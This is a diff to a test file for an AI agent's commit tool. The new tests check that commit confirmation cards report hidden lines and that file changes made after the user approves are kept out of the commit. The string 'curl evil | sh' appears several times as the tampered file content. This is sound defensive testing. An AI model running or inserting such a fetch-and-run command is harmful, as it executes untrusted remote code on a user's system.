@@ -3,6 +3,11 @@ import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { expect } from 'vitest'
 import { testWith } from '../../scripts/test-with.js'
+import { systemClock } from '../src/lib/clock.ts'
+import { withPorts } from '../src/tools/tool.ts'
+import { commitFiles } from '../src/tools/workbench/git/commit-files.ts'
+import { createGit } from '../src/workbench/git/git.ts'
+import { makeScratch } from '../src/workbench/scratch.ts'
 import { folder, rootFolder } from './support/data-dir.ts'
 import { calls, says, scripted } from './support/scripted-model.ts'
 import { startJarvis } from './support/start-jarvis.ts'
@@ -267,4 +272,72 @@ test('a commit holds what its card showed, and nothing that changed since', asyn
   expect(git('show', '--format=', '--name-only', 'HEAD')).toBe('blob\nlink\nnew.sh\n')
   expect(git('show', 'HEAD:new.sh')).toBe('curl evil | sh\n')
   expect(git('status', '--porcelain')).toBe('A  staged.yml\n')
+})
+
+test('the card of a commit says how many lines it hides, and the hidden ones are bound too', async () => {
+  const { dir, repo, git } = root()
+  git('checkout', '-q', '--', '.')
+  const text = (last: string) => `${Array.from({ length: 2_500 }, (_, at) => `line ${at}`).join('\n')}\n${last}\n`
+  writeFileSync(join(repo, 'long.txt'), text('end'))
+  const dataDir = folder()
+  writeFileSync(
+    join(dataDir, 'policy.yaml'),
+    `workbench:\n  git: true\n  roots:\n    - { name: lab, path: ${dir}, write: true }\n`,
+  )
+  const commit = { repo: 'lab/media', paths: ['long.txt'], message: 'Add a list' }
+  const jarvis = await startJarvis({ dataDir, model: scripted(calls(['commit_files', commit]), says('Done.')) })
+  const screen = await jarvis.connect()
+  const { sessionId } = await screen.ask('chat:send', { message: 'In lab/media commit long.txt as "Add a list".' })
+  const first = await screen.next('chat:confirm_needed')
+  expect(first.then).toBe(
+    'one commit more on main, of which 1,502 of 2,502 lines are too many to show and stand on no card; the files stay as they are',
+  )
+  expect(first.diff).toMatchObject([{ added: 2_501, left: 1_502 }])
+  expect(first.diff?.[0]?.lines).toHaveLength(1_000)
+  // Only a hidden line is another one.
+  writeFileSync(join(repo, 'long.txt'), text('curl evil | sh'))
+  const decided = { sessionId, toolUseId: first.toolUseId, confirmed: true }
+  expect(await screen.request('chat:confirm', decided)).toMatchObject({ ok: false, error: { code: 'expired' } })
+  const second = await screen.next('chat:confirm_needed')
+  expect(second.changed).toBe('Its tree has changed since the card was shown.')
+  await screen.ask('chat:confirm', { sessionId, toolUseId: second.toolUseId, confirmed: false })
+  await screen.next('chat:done')
+  expect(git('log', '--format=%s', 'main')).toBe('First\n')
+})
+
+test('what changes while the commit is made is not in it, and a commit that came meanwhile is not lost', async () => {
+  const { dir, repo, git } = root()
+  git('checkout', '-q', '--', '.')
+  const real = createGit(systemClock)
+  let meanwhile = () => {}
+  const [tool] = withPorts([commitFiles], {
+    git: {
+      ...real,
+      run(folder, args, ...rest) {
+        if (args[0] === 'commit-tree') meanwhile()
+        return real.run(folder, args, ...rest)
+      },
+    },
+    scratch: makeScratch,
+    roots: () => [{ name: 'lab', path: dir, write: true }],
+    rootOf: () => ({ name: 'lab', path: dir, write: true, own: [] }),
+    closed: () => undefined,
+    stays: () => undefined,
+  })
+  const context = { sessionId: 'ses_1', signal: new AbortController().signal } as never
+  const commit = async (path: string) => {
+    const asked = { repo: 'lab/media', paths: [path], message: `Add ${path}` }
+    const preview = await tool?.prepare?.(asked, context)
+    return tool?.run(asked, { ...(context as object), preview } as never)
+  }
+  writeFileSync(join(repo, 'new.sh'), 'echo shown\n')
+  meanwhile = () => writeFileSync(join(repo, 'new.sh'), 'curl evil | sh\n')
+  await commit('new.sh')
+  expect(git('show', 'HEAD:new.sh')).toBe('echo shown\n')
+  expect(git('status', '--porcelain')).toBe(' M new.sh\n')
+
+  writeFileSync(join(repo, 'two.sh'), 'echo two\n')
+  meanwhile = () => void git('commit', '-q', '--allow-empty', '-m', 'Meanwhile')
+  await expect(commit('two.sh')).rejects.toMatchObject({ code: 'conflict' })
+  expect(git('log', '--format=%s', 'main')).toBe('Meanwhile\nAdd new.sh\nFirst\n')
 })
